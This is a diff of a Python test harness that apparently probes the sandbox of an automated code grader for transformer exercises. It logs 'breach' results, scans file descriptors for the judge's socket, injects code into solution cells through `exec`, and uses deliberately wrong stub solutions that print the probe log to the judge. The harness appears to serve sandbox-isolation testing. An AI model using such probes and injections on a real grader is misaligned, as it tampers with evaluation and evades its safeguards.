@@ -2,14 +2,14 @@
 
 from dataclasses import dataclass
 
-# Runs first. `attempt` tries something and notes how it ended; `breach` notes a success that must not be.
-# The wrong functions below print the notes, so that they reach the judge with every answer.
+# Runs first. `attempt` tries something and logs how it ended; `breach` logs a success that must not be.
+# The wrong functions below print the log, so that it reaches the judge with every answer.
 START = '''\
 import numpy as np
 import builtins, ctypes, gc, importlib, io, json, os, platform, resource, signal, socket, struct, sys, threading, time
 import types
 
-told = []
+log = []
 TOKEN = STAGE["token"][::-1]
 
 
@@ -18,12 +18,12 @@ def attempt(action, *args, **kwargs):
         found = action(*args, **kwargs)
     except Exception as error:
         found = error
-    told.append(repr(found)[:80])
+    log.append(repr(found)[:80])
     return found
 
 
 def breach(what):
-    told.insert(0, TOKEN + " " + what)
+    log.insert(0, TOKEN + " " + what)
 
 
 def succeeded(found):
@@ -31,10 +31,10 @@ def succeeded(found):
 
 
 def connection():
-    """Return the descriptor on which the judge is asked and answered."""
+    """Return the descriptor of the connection to the judge."""
     import stat
     found = [fd for fd in range(256) if succeeded(attempt(os.fstat, fd)) and stat.S_ISSOCK(os.fstat(fd).st_mode)]
-    told.clear()
+    log.clear()
     return found[0]
 
 
@@ -47,39 +47,76 @@ def peer():
 WRONG = {
     "softmax": """\
 def softmax(x, axis=-1):
-    print(told)
+    print(log)
     return np.full(np.shape(x), 0.123)
 """,
     "scaled_dot_product_attention": """\
 def scaled_dot_product_attention(Q, K, V):
-    print(told)
+    print(log)
     return np.full((*Q.shape[:-1], V.shape[-1]), 0.123), np.full((*Q.shape[:-1], K.shape[-2]), 0.123)
 """,
     "softmax_backward": """\
 def softmax_backward(p, d_p, axis=-1):
-    print(told)
+    print(log)
     return np.full(np.shape(p), 0.123)
 """,
     "first_leak": """\
 def first_leak(attend, X, seed=0):
-    print(told)
+    print(log)
     return -1
+""",
+    "masked_softmax": """\
+def masked_softmax(scores, mask=None, axis=-1):
+    print(log)
+    return np.full(np.shape(scores), 0.123)
+""",
+    "gelu": """\
+def gelu(x):
+    print(log)
+    return np.full(np.shape(x), 0.123)
+""",
+    "position_wise_ffn": """\
+def position_wise_ffn(X, params, activation=None):
+    print(log)
+    return np.full(np.shape(X), 0.123)
+""",
+    "pre_norm": """\
+def pre_norm(X, sublayer, gamma, beta, eps=1e-5):
+    print(log)
+    return np.full(np.shape(X), 0.123)
+""",
+    "noam_learning_rate": """\
+def noam_learning_rate(step, d_model, warmup_steps):
+    print(log)
+    return 0.123
+""",
+    "adam_update": """\
+def adam_update(param, grad, m, v, step, lr, beta_1=0.9, beta_2=0.98, eps=1e-9):
+    print(log)
+    return (np.full(np.shape(param), 0.123),) * 3
 """,
     "post_norm": """\
 def post_norm(X, sublayer, gamma, beta, eps=1e-5):
-    print(told)
+    print(log)
     return np.full(np.shape(X), 0.123)
 """,
     "greedy_decode": """\
 def greedy_decode(next_log_probs, bos_id, eos_id, max_len):
-    print(told)
+    print(log)
     return (-1,)
 """,
     "beam_search": """\
 def beam_search(next_log_probs, bos_id, eos_id, beam_width, max_len, alpha=0.0):
-    print(told)
+    print(log)
     return [(-1.0, (-1,))]
 """,
+}
+WRONG |= {
+    name: f"def {name}(*args, **kwargs):\n    print(log)\n    return 0.123\n"
+    for name in (
+        *("angular_frequencies", "position_similarity", "attention_scores", "softmax_jacobian"),
+        *("project_memory", "cross_attention", "encoder_layer", "noam_learning_rate"),
+    )
 }
 
 
@@ -140,8 +177,8 @@ class Attack:
 
     def needed(self, code):
         """Return a cell that runs some code even where only that is run which the function needs."""
-        tools = "told, attempt, breach, succeeded, connection, peer, STAGE, np, os, types"
-        return f"told += filter(None, [exec({code!r}, globals())])\n{self.exercise}.needs = {tools}\n"
+        tools = "log, attempt, breach, succeeded, connection, peer, STAGE, np, os, types"
+        return f"log += filter(None, [exec({code!r}, globals())])\n{self.exercise}.needs = {tools}\n"
 
     def solution(self, stage):
         """Return all of it as the source of one solution cell."""
